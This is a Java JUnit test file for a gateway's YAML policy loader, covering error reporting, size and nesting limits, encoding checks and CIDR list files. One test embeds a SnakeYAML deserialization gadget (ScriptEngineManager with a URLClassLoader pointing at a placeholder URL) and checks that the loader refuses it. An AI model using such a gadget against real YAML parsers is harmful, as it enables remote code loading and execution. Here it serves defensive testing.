package dev.gatehouse.policy;

import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class PolicyLoaderTest {

    @TempDir
    Path dir;

    private final PolicyLoader loader = PolicyLoader.builder().meterRegistry(new SimpleMeterRegistry()).build();

    @Test
    void parse_reportsEveryProblemNotOnlyTheFirst() {
        String yaml = """
                default: allow
                rules:
                  - name: a
                    when: {tro: true}
                    action: block
                  - name: b
                    when: {ip: [300.0.0.0/8]}
                    action: rate_limit
                    limit: missing
                  - nmae: c
                    action: allow
                """;
        assertThatThrownBy(() -> loader.parse(yaml, "p.yaml"))
                .isInstanceOfSatisfying(PolicyException.class, e -> assertThat(e.problems())
                        .extracting(PolicyProblem::kind)
                        .containsExactlyInAnyOrder(PolicyProblem.Kind.UNKNOWN_SIGNAL, PolicyProblem.Kind.BAD_CIDR,
                                PolicyProblem.Kind.UNDEFINED_LIMIT, PolicyProblem.Kind.UNKNOWN_KEY, PolicyProblem.Kind.MISSING_KEY))
                .hasMessageContaining("p.yaml:4:12: rules[0](a).when.tro: unknown signal 'tro' (did you mean 'tor'?)")
                .hasMessageContaining("p.yaml:10:5: rules[2]: unknown key 'nmae' (did you mean 'name'?)");
    }

    @Test
    void load_oversizeFile_isRefusedBeforeParsing() throws IOException {
        Path big = dir.resolve("big.yaml");
        Files.writeString(big, "default: allow\n# " + "x".repeat(PolicyLoader.MAX_FILE_BYTES > Integer.MAX_VALUE ? 0 : (int) PolicyLoader.MAX_FILE_BYTES) + "\n");
        assertThat(loader.check(big)).singleElement().satisfies(p -> {
            assertThat(p.kind()).isEqualTo(PolicyProblem.Kind.TOO_LARGE);
            assertThat(p.message()).contains("limit");
        });
    }

    @Test
    void parse_deepNesting_isRefused() {
        String deep = "default: allow\nx: " + "[".repeat(200) + "]".repeat(200) + "\n";
        assertThat(problems(deep)).extracting(PolicyProblem::kind).containsExactly(PolicyProblem.Kind.TOO_LARGE);
    }

    @Test
    void parse_javaTag_isNeverInstantiated() {
        String yaml = "default: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n";
        // SnakeYAML 2 refuses global tags while composing; we never construct objects from tags either way
        assertThat(problems(yaml)).singleElement().satisfies(p -> assertThat(p.message()).contains("invalid YAML"));
    }

    @Test
    void parse_yamlOneOneBooleans_areRefusedAsBooleansButNorwayStaysAString() {
        assertThat(problems("default: allow\nrules:\n  - name: a\n    when: {tor: on}\n    action: block\n"))
                .extracting(PolicyProblem::kind).containsExactly(PolicyProblem.Kind.WRONG_TYPE);
        assertThat(problems("default: allow\nrules:\n  - name: a\n    when: {country: NO}\n    action: block\n")).isEmpty();
    }

    @Test
    void parse_emptyDocument_isASyntaxProblem() {
        assertThat(problems("# nothing\n")).extracting(PolicyProblem::kind).containsExactly(PolicyProblem.Kind.SYNTAX);
    }

    @Test
    void load_notUtf8_isRefused() throws IOException {
        Path file = Files.write(dir.resolve("latin1.yaml"), new byte[] {'d', 'e', 'f', 'a', 'u', 'l', 't', ':', ' ', (byte) 0xE9, '\n'});
        assertThat(loader.check(file)).singleElement().satisfies(p -> assertThat(p.message()).contains("UTF-8"));
    }

    @Test
    void load_cidrFile_isResolvedBesideThePolicy() throws IOException {
        Files.createDirectories(dir.resolve("lists"));
        Files.writeString(dir.resolve("lists/bad.txt"), "# bad networks\n192.0.2.0/24\n");
        Path file = Files.writeString(dir.resolve("p.yaml"), """
                default: allow
                rules:
                  - name: bad
                    when: {ip: {file: lists/bad.txt}}
                    action: block
                """);
        assertThat(loader.check(file)).isEmpty();
        Files.writeString(dir.resolve("lists/bad.txt"), "192.0.2.0/24\nnot-a-cidr\n");
        assertThat(loader.check(file)).singleElement().satisfies(p -> {
            assertThat(p.file()).endsWith("bad.txt");
            assertThat(p.line()).isEqualTo(2);
            assertThat(p.kind()).isEqualTo(PolicyProblem.Kind.BAD_CIDR);
        });
    }

    @Test
    void builder_conflictingSettings_areRejected() {
        assertThatThrownBy(() -> PolicyLoader.builder().maximumBuckets(0)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("maximumBuckets");
        assertThatThrownBy(() -> PolicyLoader.builder().maximumBuckets(10)
                .rateLimitStore(dev.gatehouse.ratelimit.LocalRateLimitStore.create()).build())
                .isInstanceOf(IllegalStateException.class);
    }

    private List<PolicyProblem> problems(String yaml) {
        try {
            loader.parse(yaml, "p.yaml");
            return List.of();
        } catch (PolicyException e) {
            return e.problems();
        }
    }
}
